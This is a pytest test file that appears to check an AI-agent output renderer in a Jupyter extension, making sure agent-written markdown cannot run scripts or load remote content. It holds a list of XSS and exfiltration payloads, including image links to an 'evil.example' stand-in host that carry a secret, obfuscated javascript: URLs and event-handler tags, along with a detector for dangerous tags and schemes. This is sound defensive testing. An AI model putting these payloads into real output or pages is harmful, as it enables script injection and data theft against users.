"""What the agent writes cannot act in the page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from navi_jupyter.kernel.display.render import closed, defused, to_html

HARMFUL = [
    "![x](http://evil.example/?q=secret)",
    "![x][1]\n\n[1]: http://evil.example/",
    "<img src=http://evil.example/>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<!-- --><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript\\:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](java&Tab;script:alert(1))",
    "[click][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "`<img src=x>` <img src=http://evil.example/>",
    "- a\n  ```\n![x](http://evil.example/)",
    "- ~~~\n  ```\n  ~~~\n  ![x](http://evil.example/)",
    "  ~~~\n```\n  ~~~\n![x](http://evil.example/)",
    "> ```\n![x](http://evil.example/)",
    "```a`b\n![x](http://evil.example/)",
    "```\r![x](http://evil.example/)\r```\r![y](http://evil.example/)",
    "<details ontoggle=alert(1) open>x</details>",
]


HARMFUL_URL = re.compile(r"[\s\0-\x20]*(javascript|vbscript|data)\s*:", re.IGNORECASE)


class Dangers(HTMLParser):
    """Collects what could act or load in HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "img", "svg", "iframe", "object", "embed", "style", "link", "video", "audio", "details"):
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (name in ("href", "src") and HARMFUL_URL.match(value or "")):
                self.found.append(f"{tag} {name}={value}")


def dangers(html: str) -> list[str]:
    parser = Dangers()
    parser.feed(html)
    return parser.found


@pytest.mark.parametrize("text", HARMFUL)
def test_html_made_from_it_loads_and_runs_nothing(text: str) -> None:
    html = to_html(text)
    assert html is not None
    assert dangers(html) == []


@pytest.mark.parametrize("text", HARMFUL)
def test_defused_markdown_is_harmless_in_a_renderer_that_lets_html_through(text: str) -> None:
    mistune = pytest.importorskip("mistune")
    # The most permissive reader: raw HTML as it is, every scheme allowed.
    render = mistune.create_markdown(
        escape=False, renderer=mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True)
    )
    assert dangers(render(defused(text))) == []


@pytest.mark.parametrize(
    "text",
    [
        "plain *text* with `code` and [a link](https://example.org/a?b=c)",
        "```python\nif a <b and x![0]:\n    print('<img>')\n```",
        "a < b, 3 > 2 & <https://example.org/>",
        "| a | b |\n|---|---|\n| 1 | 2 |",
    ],
)
def test_harmless_markdown_is_left_alone(text: str) -> None:
    assert defused(text) == text


def test_code_keeps_every_character_in_html() -> None:
    html = to_html("```c\n#include <stdio.h>\n```\nand `vector<int>`")
    assert html is not None
    assert "#include &lt;stdio.h&gt;" in html
    assert "vector&lt;int&gt;" in html


def test_an_open_fence_is_closed() -> None:
    assert closed("a\n```py\nx = 1") == "a\n```py\nx = 1\n```"
    assert closed("a\n```py\nx = 1\n```\nb") == "a\n```py\nx = 1\n```\nb"
